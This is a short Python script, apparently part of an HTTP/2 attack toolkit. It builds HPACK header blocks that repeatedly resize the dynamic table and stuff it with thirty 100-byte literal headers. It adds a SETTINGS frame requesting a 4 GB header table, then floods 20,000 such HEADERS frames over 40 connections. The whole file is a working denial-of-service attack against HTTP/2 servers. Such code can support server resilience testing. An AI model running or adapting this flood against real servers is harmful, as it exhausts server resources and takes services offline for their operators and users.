"""Header blocks that do little but change the size of the table, and SETTINGS that ask for a table of 4 GB."""
from attack_program import MATCH, program
from h2wire import END_HEADERS, HEADERS, frame, integer, literal, request_block, settings

AT_ONCE = 20


def run(attack):
    sizes = b"".join(integer(size, 5, 0x20) for size in (0, 4096))
    fill = b"".join(literal(f"x-{i}", "t" * 100, first=0x40) for i in range(30))
    headers = sizes + request_block(MATCH) + fill

    def block(connection, _):
        return settings(HEADER_TABLE_SIZE=0xFFFFFFFF) + b"".join(frame(HEADERS, END_HEADERS, connection.stream(), headers) for _ in range(AT_ONCE))
    attack.flood(block, attack.options.count // AT_ONCE)


if __name__ == "__main__":
    program(__doc__, run, count=20_000, connections=40, megabytes=80)
